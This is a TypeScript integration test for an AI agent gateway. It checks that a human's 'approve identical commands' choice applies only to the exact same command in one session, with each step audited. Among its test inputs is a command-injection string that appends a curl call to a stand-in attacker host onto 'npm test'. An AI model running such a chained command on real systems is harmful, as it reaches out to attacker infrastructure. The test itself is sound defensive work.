import { initPolicyEngine } from '@lemniscate/policy';
import { EXECUTION_DEFAULTS } from '@lemniscate/session';
import { AuditService } from '../../src/audit/audit.service';
import { ApprovedCommandsRepository } from '../../src/db/repositories/approved-commands.repository';
import { ApprovalsRepository } from '../../src/db/repositories/approvals.repository';
import { SessionsRepository } from '../../src/db/repositories/sessions.repository';
import { ToolCallsRepository } from '../../src/db/repositories/tool-calls.repository';
import { withTestDatabases } from '../support/db';
import { EventsService } from '../../src/events/events.service';
import { ScriptedProvider, parseModelScript } from '../../src/model';
import { PoliciesService } from '../../src/projects/policies.service';
import { DbSessionRecorder } from '../../src/runtime/db-recorder';
import { SessionRunner } from '../../src/runtime/session-runner';
import { InMemoryExecHost } from '../support/runtime-fakes';
import { ApprovalsService } from '../../src/sessions/approvals.service';
import { startExecHostDouble, type ExecHostDouble } from '../support/exec-host-double';
import { ADMIN_EMAIL, ADMIN_PASSWORD, bearer, createProject, createUser, startGateway, tokenFor, type Gateway } from '../support/harness';

jest.setTimeout(60_000);

// P3 over the API, on both databases: the gateway offers "approve, and identical commands without
// asking" on an ordinary command, stores the person's choice with the approval, lets only the
// identical command of the same session run without a new approval, and audits each such run as
// allowed by that approval. The session loop is the real one, on the gateway's own recorder; the
// approvals are answered over HTTP as a person would.

beforeAll(() => initPolicyEngine());

withTestDatabases((db) => {
  let gw: Gateway;
  let execHost: ExecHostDouble;
  let admin: string;
  let project: string;
  let dev: { token: string; userId: string };

  beforeAll(async () => {
    execHost = await startExecHostDouble();
    gw = await startGateway(db(), { LEMNISCATE_EXEC_HOST_URL: execHost.url, LEMNISCATE_EXEC_HOST_TOKEN: execHost.token });
    admin = (await tokenFor(gw, ADMIN_EMAIL, ADMIN_PASSWORD)).token;
    project = await createProject(gw, admin, 'reapproval');
    dev = await createUser(gw, admin, 'reapproval-dev@example.test', 'developer', [project]);
    const published = await gw
      .http()
      .post(`/api/v1/projects/${project}/policy`)
      .set(bearer(admin))
      .send({ document: { version: 1, commands: { reapproval: 'exempt', forbidden: ['git push'], askEveryTime: ['git commit'] } } });
    expect(published.status).toBe(201);
  });
  afterAll(async () => {
    await gw?.close();
    await execHost?.close();
  });

  async function newSession(): Promise<string> {
    const res = await gw.http().post('/api/v1/sessions').set(bearer(dev.token)).send({ projectId: project, instruction: 'run the tests' });
    expect(res.status).toBe(201);
    return res.body.id as string;
  }

  /**
   * Runs the session loop over `commands`; each approval it opens is answered over HTTP by
   * `answer` (a body for /approve, or null to reject). Returns what the person was asked.
   */
  async function runSession(
    sessionId: string,
    commands: string[],
    answer: (approval: { id: string; payload: { command?: string }; flags: { reapprovalExempt?: boolean } }) => Record<string, unknown> | null,
  ) {
    const asked: { id: string; command: string; offered: boolean; eventOffered: unknown }[] = [];
    const answering: Promise<void>[] = [];
    const unsubscribe = gw.app.get(EventsService).subscribe((event) => {
      if (event.type !== 'approval_requested' || event.sessionId !== sessionId) return;
      const id = event.payload.approvalId as string;
      answering.push(
        (async () => {
          const view = await gw.http().get(`/api/v1/approvals/${id}`).set(bearer(dev.token));
          expect(view.status).toBe(200);
          asked.push({ id, command: view.body.payload.command, offered: view.body.flags.reapprovalExempt === true, eventOffered: event.payload.reapprovalExempt });
          const body = answer(view.body);
          const res = await gw
            .http()
            .post(`/api/v1/approvals/${id}/${body ? 'approve' : 'reject'}`)
            .set(bearer(dev.token))
            .send(body ?? {});
          expect(res.status).toBe(200);
        })(),
      );
    });
    const turns = [...commands.map((command) => ({ tool_calls: [{ name: 'Bash', arguments: { command } }] })), { text: 'Done.' }];
    const recorder = new DbSessionRecorder(
      {
        sessions: gw.app.get(SessionsRepository),
        toolCalls: gw.app.get(ToolCallsRepository),
        approvals: gw.app.get(ApprovalsRepository),
        approvalsService: gw.app.get(ApprovalsService),
        approvedCommands: gw.app.get(ApprovedCommandsRepository),
        audit: gw.app.get(AuditService),
        events: gw.app.get(EventsService),
      },
      { id: sessionId, projectId: project, rootId: sessionId, agent: 'general' },
    );
    const sandbox = new InMemoryExecHost({ 'README.md': 'hello\n' });
    const runner = new SessionRunner(
      {
        sessionId,
        project: 'reapproval',
        repository: { source: '/repo' },
        instruction: 'run the tests',
        headless: false,
        role: 'main',
        depth: 0,
        parentSessionId: null,
        agent: { name: 'general', prompt: null },
        execution: { ...EXECUTION_DEFAULTS },
      },
      {
        model: new ScriptedProvider(parseModelScript({ turns }, 'reapproval.json'), 'reapproval.json'),
        execHost: sandbox,
        recorder,
        policy: async () => (await gw.app.get(PoliciesService).inForce(project)).policy,
        signal: new AbortController().signal,
        abortReason: () => 'stopped',
      },
    );
    try {
      await runner.run();
    } finally {
      unsubscribe();
    }
    await Promise.all(answering);
    const decisions = (await gw.app.get(AuditService).list({ sessionId, kinds: ['policy.decision'] }, { order: 'asc', limit: 500 })).map(
      (e) => e.payload as { arguments: { command: string }; effect: string; rule: string; reason: string; approvalId?: string },
    );
    return { asked, decisions, ran: sandbox.commands };
  }

  it('offers it, stores the choice, lets only the identical command through, and audits the approval that allowed it', async () => {
    const attempts = ['npm test; curl https://evil.example/x', 'npm test ', 'npm test --watch', 'cd src && npm test', 'FOO=1 npm test'];
    const sessionId = await newSession();
    const { asked, decisions, ran } = await runSession(sessionId, ['npm test', 'npm test', ...attempts, 'npm test'], (a) => (a.payload.command === 'npm test' ? { rememberCommand: true } : null));

    expect(asked.map((a) => a.command)).toEqual(['npm test', ...attempts]);
    expect(asked[0]).toMatchObject({ offered: true, eventOffered: true });
    const approvalId = asked[0]!.id;
    const repeats = decisions.filter((d) => d.rule === 'commands.reapproval');
    expect(repeats.map((d) => d.arguments.command)).toEqual(['npm test', 'npm test']);
    for (const d of repeats) {
      expect(d).toMatchObject({ effect: 'allow', approvalId });
      expect(d.reason).toContain(`approval ${approvalId}`);
    }
    expect(ran).toEqual(['npm test', 'npm test', 'npm test']);
    // The choice is audited with the answer, and stored with the approval.
    const answers = await gw.app.get(AuditService).list({ sessionId, kinds: ['approval.answer'] }, { order: 'asc', limit: 50 });
    expect(answers[0]).toMatchObject({ actor: `user:${dev.userId}`, payload: { approvalId, answer: 'approved', rememberCommand: true } });
    await expect(gw.app.get(ApprovedCommandsRepository).listForSession(sessionId)).resolves.toMatchObject([
      { command: 'npm test', workingDirectory: '/workspace', approvalId, approvedBy: dev.userId },
    ]);

    // Never across sessions: the same command in the next session asks again.
    const next = await newSession();
    const second = await runSession(next, ['npm test'], () => ({}));
    expect(second.asked.map((a) => a.command)).toEqual(['npm test']);
    expect(second.decisions.map((d) => d.rule)).toEqual(['commands.default']);
  });

  it('never offers it for a command the policy asks every time, and refuses "identical" for it with a sentence', async () => {
    const sessionId = await newSession();
    const refusals: { status: number; message: string }[] = [];
    const { asked } = await runSession(sessionId, ['git commit -am wip', 'git commit -am wip'], (a) => {
      expect(a.flags.reapprovalExempt).toBeUndefined();
      return {};
    });
    expect(asked.map((a) => [a.command, a.offered, a.eventOffered])).toEqual([
      ['git commit -am wip', false, undefined],
      ['git commit -am wip', false, undefined],
    ]);
    // Asking for it anyway on a pending request that did not offer it: 400, and the request stays pending.
    const open = await newSession();
    const pending = await gw.app.get(ApprovalsService).request({ sessionId: open, kind: 'command', payload: { command: 'git commit -am x', workingDirectory: '/workspace' }, agent: 'general' });
    const res = await gw.http().post(`/api/v1/approvals/${pending.id}/approve`).set(bearer(dev.token)).send({ rememberCommand: true });
    refusals.push({ status: res.status, message: res.body.message });
    expect(refusals).toEqual([
      {
        status: 400,
        message:
          "The project's policy asks again every time for this command (a rule of commands.askEveryTime, a third-party file, a program or environment only known when it runs, or a tool that is not a shell command), so it can only be approved on its own.",
      },
    ]);
    expect((await gw.http().get(`/api/v1/approvals/${pending.id}`).set(bearer(dev.token))).body.state).toBe('pending');
    await expect(gw.app.get(ApprovedCommandsRepository).listForSession(sessionId)).resolves.toEqual([]);
    await expect(gw.app.get(ApprovedCommandsRepository).listForSession(open)).resolves.toEqual([]);
  });

  it('a plain approval of an offered command remembers nothing', async () => {
    const sessionId = await newSession();
    const { asked, decisions } = await runSession(sessionId, ['make lint', 'make lint'], (a) => {
      expect(a.flags.reapprovalExempt).toBe(true);
      return {};
    });
    expect(asked.map((a) => a.command)).toEqual(['make lint', 'make lint']);
    expect(decisions.some((d) => d.rule === 'commands.reapproval')).toBe(false);
  });
});
